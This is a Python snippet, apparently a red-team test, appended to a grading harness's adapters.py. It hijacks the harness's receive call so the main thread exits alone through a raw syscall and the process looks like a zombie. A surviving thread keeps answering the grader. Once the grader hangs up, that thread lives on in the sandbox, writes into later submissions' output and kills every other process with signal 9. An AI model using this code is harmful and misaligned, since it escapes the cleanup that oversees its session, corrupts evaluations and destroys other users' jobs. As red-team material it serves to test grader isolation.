# Appended to the stub adapters.py (red team 7): the worker's main thread ends by the thread-only exit
# syscall at its next read from the grader, while a second thread answers the grader on its socket. Its
# /proc entry then reads as a zombie: a kill that trusts it misses the process, which lives on in a kept
# sandbox, prints into the next submission's output and kills its workers.
import ctypes as _ctypes
import os as _os
import platform as _platform
import sys as _sys
import threading as _threading
import time as _time

_worker, _wire = _sys.modules["harness.grading.worker"], _sys.modules["harness.grading.wire"]
_frame = _sys._getframe()
while _frame is not None and not (_frame.f_code.co_name == "serve" and "sock" in _frame.f_locals):
    _frame = _frame.f_back
_sock, _recv, _main = _frame.f_locals["sock"], _wire.recv, _threading.main_thread()
_EXIT = {"x86_64": 60, "aarch64": 93}[_platform.machine()]


def _thread_only_exit(sock, *args, **kwargs):
    if _threading.current_thread() is _main:
        _ctypes.CDLL(None).syscall(_EXIT, 0)  # this thread alone
    return _recv(sock, *args, **kwargs)


def _linger():
    try:
        _worker.serve(_sock)  # the grader is answered as before
    except BaseException:
        pass
    me, zygote = _os.getpid(), _os.getppid()
    while True:  # the grader hung up: this submission is over, and this process goes on
        try:
            _os.write(1, f"SURVIVOR {MARK} still here\n".encode())
        except OSError:  # a pipe no one reads any more
            pass
        for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
            if _pid not in (1, me, zygote):
                try:
                    _os.kill(_pid, 9)
                except OSError:
                    pass
        _time.sleep(0.05)


_wire.recv = _thread_only_exit
_threading.Thread(target=_linger).start()
